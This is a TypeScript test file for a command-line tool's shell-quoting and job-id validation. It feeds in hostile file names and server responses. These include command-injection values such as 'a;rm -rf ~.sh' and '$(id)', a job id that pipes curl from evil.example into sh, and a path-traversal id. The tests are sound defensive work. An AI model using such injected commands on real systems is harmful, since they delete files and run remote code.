// Commands the app shows to paste hold outside words: a file name from the tree checked, a path, a job id a server
// sent. Each must stay one word of one line: unquoted, `revoke a;rm -rf ~.sh` was a second command, a file name with
// a line break added lines that read as the report's own, and a hostile endpoint's job id `x; curl …|sh` was shown as
// `hf jobs logs -f x; curl …|sh`.
import {createServer, type Server} from 'node:http';
import type {AddressInfo} from 'node:net';
import {mkdtemp, rm, writeFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {createHubClient} from '../../src/core/hub/client.js';
import {submitJob} from '../../src/core/jobs/submit.js';
import {shellQuoteShown, shellSplit} from '../../src/core/jobspec/shell.js';
import {viaMain} from '../helpers/command.js';
import {makeIo} from '../commands/helpers-auth.js';

const TOKEN = 'hf_FAKEq3Rk9LmZ2xPw7TnB4vYc8HjD5s1234';
const NAMES = ['a;rm -rf ~.sh', 'run\nfake.sh', "it's $(id).sh", 'esc\x1b[2J.sh'];

describe('shellQuoteShown', () => {
  it('keeps safe words, quotes the rest, writes control characters as escapes', () => {
    expect(shellQuoteShown('train.py')).toBe('train.py');
    expect(shellQuoteShown('a;rm -rf ~.sh')).toBe("'a;rm -rf ~.sh'");
    expect(shellQuoteShown("it's")).toBe(`'it'\\''s'`);
    expect(shellQuoteShown('run\nfake.sh')).toBe(`$'run\\nfake.sh'`);
    expect(shellQuoteShown("e\x1b[2J'\\")).toBe(`$'e\\x1b[2J\\'\\\\'`);
    // A quoted word (no control characters) reads back as itself.
    for (const w of ['a;rm -rf ~.sh', "it's $(id).sh", 'a b'] as const)
      expect(shellSplit(shellQuoteShown(w))).toEqual([w]);
  });
});

describe('check and troubleshoot on files with hostile names', () => {
  let dir = '';
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'shown-'));
    for (const name of NAMES)
      await writeFile(join(dir, name), `hf jobs run --token ${TOKEN} python:3.12 python x.py\n`);
  });
  afterAll(async () => {
    await rm(dir, {recursive: true, force: true});
  });

  it("check's revoke commands quote each name and the report gets no line from a name", async () => {
    const io = makeIo({HOME: dir, XDG_CACHE_HOME: join(dir, 'cache')});
    io.cwd = dir;
    await viaMain('check')(['--offline'], io);
    const out = io.out();
    for (const name of NAMES) {
      const shown = shellQuoteShown(name);
      expect(out, name).toContain(`revoke ${shown}\``);
    }
    // Every line of a failure is the header, its message or its fix: none starts with a name's second line.
    expect(out.split('\n').filter((l) => l.startsWith('fake.sh'))).toEqual([]);
    expect(out).not.toContain('\x1b[2J');
  });

  it("troubleshoot FILE's revoke command quotes the name", async () => {
    const io = makeIo({HOME: dir, XDG_CACHE_HOME: join(dir, 'cache')});
    io.cwd = dir;
    await viaMain('troubleshoot')([NAMES[0]!, '--offline'], io);
    expect(io.out()).toContain("revoke 'a;rm -rf ~.sh'`");
  });
});

describe("a hostile endpoint's job id", () => {
  let server: Server;
  let url = '';
  let answer: Record<string, unknown> = {};
  beforeAll(async () => {
    server = createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        res.writeHead(200, {'content-type': 'application/json'});
        res.end(JSON.stringify(answer));
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  });

  it('is not taken: the submit says the job cannot be followed; a Hub-like id is taken', async () => {
    const client = createHubClient({hubUrl: url, accessToken: 'hf_FAKEsubmitterTOKENabcdefghijkl'});
    const spec = {dockerImage: 'python:3.12', command: ['python', '-c', '1'], flavor: 'cpu-basic'} as never;
    for (const bad of [
      {id: 'x; curl https://evil.example/x|sh #', status: {stage: 'RUNNING'}},
      {id: '../../api/repos/delete', status: {stage: 'RUNNING'}},
      {id: 'aaaaaaaaaaaaaaaaaaaaaaaa', owner: {name: 'ns$(id)'}, status: {stage: 'RUNNING'}},
    ]) {
      answer = bad;
      const r = await submitJob(client, 'ns', spec);
      expect(r.submitted, JSON.stringify(bad)).toBe('unknown');
      expect(r.submitted === true ? '' : r.message).toMatch(
        /answered the submit with a job (id|owner) that is not one/,
      );
    }
    answer = {id: '6763a6b1d2f0e4a5b6c7d8e9', owner: {name: 'ns'}, status: {stage: 'RUNNING'}};
    const ok = await submitJob(client, 'ns', spec);
    expect(ok.submitted).toBe(true);
  });
});
